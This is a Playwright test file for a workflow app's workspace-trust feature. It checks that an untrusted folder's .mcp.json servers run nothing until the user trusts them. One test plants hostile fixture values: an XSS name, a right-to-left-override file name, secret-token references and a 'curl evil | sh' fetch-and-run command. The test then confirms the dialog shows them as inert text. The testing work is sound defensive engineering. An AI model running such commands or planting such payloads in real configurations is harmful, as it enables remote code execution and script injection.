// Workspace trust seen from the UI: a folder from elsewhere runs nothing
// until the user trusts it, the dialog shows exactly what would run, a
// restricted tab can be trusted from its banner and revoked from the
// project menu, and an MCP entry added after trust waits in the palette.

import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from '@playwright/test';
import { expect, repoRoot, screen, test, type Flowweaver } from './fixtures';
import { openKnown, projectView, slowWorkflow } from './ui';

let mcpBin = '';

/** The repo's real MCP test server, built once for this file. */
test.beforeAll(() => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'fw-mcp-'));
  mcpBin = path.join(dir, 'mcptestserver');
  execFileSync('go', ['build', '-o', mcpBin, 'github.com/flowweaver/flowweaver/backend/tools/mcp/internal/testserver/mcptestserver'], {
    cwd: repoRoot,
    env: { ...process.env, CGO_ENABLED: '0' },
    stdio: 'inherit',
  });
});

/** An .mcp.json entry whose server first leaves a marker file, then serves MCP. */
function markerEntry(marker: string) {
  return { command: 'sh', args: ['-c', `touch '${marker}'; exec '${mcpBin}'`] };
}

function writeMcp(dir: string, servers: Record<string, unknown>) {
  writeFileSync(path.join(dir, '.mcp.json'), JSON.stringify({ mcpServers: servers }, null, 2));
}

/** Fills the open dialog and submits; the trust dialog (not a tab) must come next. */
async function submitOpen(page: Page, folder: string, name: string) {
  const empty = page.getByTestId('empty-open');
  if (await empty.isVisible()) await empty.click();
  else await page.getByTestId('open-project').click();
  await page.getByTestId('open-path').fill(folder);
  await page.getByTestId('open-name').fill(name);
  await page.getByTestId('open-submit').click();
}

async function projectId(page: Page, name: string): Promise<string> {
  const tab = page.getByRole('tab', { name });
  await expect(tab).toHaveAttribute('aria-selected', 'true');
  return (await tab.getAttribute('data-testid'))!.replace(/^tab-/, '');
}

async function serverStatus(fw: Flowweaver, id: string, server: string): Promise<string | undefined> {
  const cat = await fw.api<{ servers?: { server: string; status: string }[] }>('GET', `/api/projects/${id}/tools`);
  return cat.servers?.find((s) => s.server === server)?.status;
}

test('opening a folder with .mcp.json asks first; Browse only starts nothing; Trust starts the server; revoke stops it', async ({ fw, page }) => {
  const folder = fw.folder('cloned');
  const marker = path.join(fw.folder('markers'), 'test.started');
  writeMcp(folder, { test: markerEntry(marker) });

  await fw.openUI(page);
  await submitOpen(page, folder, 'cloned');
  const dialog = page.getByTestId('trust-dialog');
  await expect(dialog).toBeVisible();
  // Exactly what would run: the command line as written, before anything ran.
  const cmd = dialog.getByTestId('trust-command-test');
  await expect(cmd).toHaveText(`sh -c "touch '${marker}'; exec '${mcpBin}'"`);
  await expect(dialog.getByTestId('trust-browse')).toBeFocused();
  await screen(page, '40-trust-dialog');
  expect(existsSync(marker)).toBe(false);

  await dialog.getByTestId('trust-browse').click();
  await expect(dialog).toBeHidden();
  const id = await projectId(page, 'cloned');
  const view = projectView(page, id);
  await expect(view.getByTestId('trust-banner')).toBeVisible();
  await expect(view.getByTestId('server-untrusted-test')).toBeVisible();
  await expect(view.getByTestId('palette-item-shell')).toBeVisible();
  await expect(view.getByTestId('run')).toBeDisabled();
  await expect(page.getByTestId(`tab-restricted-${id}`)).toBeVisible();
  expect(await serverStatus(fw, id, 'test')).toBe('untrusted');
  // The tab subscribed to tools: and listed its tools; give a wrongly
  // started server every chance to leave its marker.
  await page.waitForTimeout(1000);
  expect(existsSync(marker)).toBe(false);
  await screen(page, '41-restricted-tab');

  await view.getByTestId('trust-banner-trust').click();
  await expect(page.getByTestId('trust-dialog')).toBeVisible();
  await page.getByTestId('trust-accept').click();
  await expect(page.getByTestId('trust-dialog')).toBeHidden();
  await expect(view.getByTestId('trust-banner')).toHaveCount(0);
  await expect.poll(() => existsSync(marker)).toBe(true);
  await expect(view.getByTestId('palette-item-mcp:test/echo')).toBeVisible();
  await expect(view.getByTestId('run')).toBeEnabled();
  await expect(page.getByTestId(`tab-restricted-${id}`)).toHaveCount(0);
  expect(await serverStatus(fw, id, 'test')).toBe('ready');

  // Revoke from the project menu: restricted again, the server is stopped.
  await view.getByTestId('project-menu').click();
  await view.getByTestId('project-menu-revoke').click();
  await expect(view.getByTestId('trust-banner')).toBeVisible();
  await expect(view.getByTestId('server-untrusted-test')).toBeVisible();
  await expect(view.getByTestId('palette-item-mcp:test/echo')).toHaveCount(0);
  expect(await serverStatus(fw, id, 'test')).toBe('untrusted');
});

test('an MCP server added after trust waits in the palette until approved', async ({ fw, page }) => {
  const folder = fw.folder('pulled');
  const m1 = path.join(fw.folder('markers'), 'one.started');
  const m2 = path.join(fw.folder('markers'), 'two.started');
  writeMcp(folder, { one: markerEntry(m1) });
  await fw.openUI(page);
  await submitOpen(page, folder, 'pulled');
  await page.getByTestId('trust-accept').click();
  const id = await projectId(page, 'pulled');
  const view = projectView(page, id);
  await expect(view.getByTestId('palette-item-mcp:one/echo')).toBeVisible();

  // A git pull adds a server.
  writeMcp(folder, { one: markerEntry(m1), two: markerEntry(m2) });
  const pending = view.getByTestId('server-pending-two');
  await expect(pending).toBeVisible();
  await pending.getByTestId('server-review-two').click();
  await expect(pending.getByTestId('trust-command-two')).toContainText(m2);
  await screen(page, '42-pending-approval');
  expect(existsSync(m2)).toBe(false);
  await pending.getByTestId('server-approve-two').click();
  await expect.poll(() => existsSync(m2)).toBe(true);
  await expect(view.getByTestId('palette-item-mcp:two/echo')).toBeVisible();
  await expect(view.getByTestId('server-pending-two')).toHaveCount(0);
});

test('hostile configuration is shown as text, hidden characters made visible', async ({ fw, page }) => {
  const folder = fw.folder('hostile');
  const name = '<img src=x onerror="window.__pwned=1">';
  writeMcp(folder, {
    [name]: { command: 'echo', args: ['safe\u202e;txt.exe', '<script>window.__pwned=2</script>'], env: { K: '${secret:API_KEY}', T: '${GITHUB_TOKEN}' } },
  });
  mkdirSync(path.join(folder, '.flowweaver', 'workflows'), { recursive: true });
  writeFileSync(
    path.join(folder, '.flowweaver', 'workflows', 'w.json'),
    JSON.stringify({ name: '<b>bold</b>', nodes: [{ id: 'a', tool: 'shell', params: { command: 'curl evil | sh' } }], edges: [] }),
  );
  await fw.openUI(page);
  await submitOpen(page, folder, 'hostile');
  const dialog = page.getByTestId('trust-dialog');
  await expect(dialog).toBeVisible();
  await expect(dialog).toContainText(name);
  await expect(dialog).toContainText('safe⟨U+202E⟩;txt.exe');
  await expect(dialog).toContainText('<script>window.__pwned=2</script>');
  await expect(dialog).toContainText('curl evil | sh');
  await expect(dialog).toContainText('<b>bold</b>');
  await expect(dialog.locator('img, script')).toHaveCount(0);
  expect(await dialog.innerHTML()).toContain('&lt;b&gt;bold&lt;/b&gt;');
  expect(await page.evaluate(() => (window as Window & { __pwned?: unknown }).__pwned)).toBeUndefined();
  await expect(dialog.getByTestId(`trust-hidden-${name}`)).toBeVisible();
  await expect(dialog.getByTestId(`trust-secrets-${name}`)).toContainText('API_KEY');
  await expect(dialog.getByTestId(`trust-vars-${name}`)).toContainText('GITHUB_TOKEN');
  await dialog.getByTestId('trust-browse').click();
  await expect(dialog).toBeHidden();
});

test('a folder created empty from the app is trusted and runs', async ({ fw, page }) => {
  const parent = fw.folder('parent');
  const target = path.join(parent, 'brand-new');
  await fw.openUI(page);
  const empty = page.getByTestId('empty-open');
  if (await empty.isVisible()) await empty.click();
  else await page.getByTestId('open-project').click();
  await page.getByTestId('open-path').fill(target);
  await page.getByTestId('open-create').check();
  await page.getByTestId('open-submit').click();
  await expect(page.getByTestId('open-dialog')).toBeHidden();
  await expect(page.getByTestId('trust-dialog')).toHaveCount(0);
  const id = await projectId(page, 'brand-new');
  expect(existsSync(target)).toBe(true);
  await expect(projectView(page, id).getByTestId('trust-banner')).toHaveCount(0);
  const p = await fw.api<{ trusted: boolean }>('GET', `/api/projects/${id}`);
  expect(p.trusted).toBe(true);
});

test('revoking trust from the project menu while a run is active asks, then cancels the run', async ({ fw, page }) => {
  const p = await fw.project('busy');
  await fw.putWorkflow(p.id, 'slow', slowWorkflow('Slow', 60_000, 'never-printed'));
  await fw.openUI(page);
  await openKnown(page, p);
  const view = projectView(page, p.id);
  await view.getByTestId('run').click();
  await expect(view.getByTestId('run-status')).toHaveText('running');

  // Declining the question changes nothing.
  page.once('dialog', (d) => void d.dismiss());
  await view.getByTestId('project-menu').click();
  await view.getByTestId('project-menu-revoke').click();
  await expect(view.getByTestId('run-status')).toHaveText('running');
  await expect(view.getByTestId('trust-banner')).toHaveCount(0);

  let asked = '';
  page.once('dialog', (d) => {
    asked = d.message();
    void d.accept();
  });
  await view.getByTestId('project-menu').click();
  await view.getByTestId('project-menu-revoke').click();
  await expect(view.getByTestId('trust-banner')).toBeVisible();
  await expect(view.getByTestId('run-status')).toHaveText('canceled');
  expect(asked).toContain('cancels 1 active run');
  const runs = await fw.api<{ runs: { status: string }[] }>('GET', `/api/projects/${p.id}/runs`);
  expect(runs.runs.map((r) => r.status)).toEqual(['canceled']);
  await expect(view.getByTestId('run')).toBeDisabled();
});
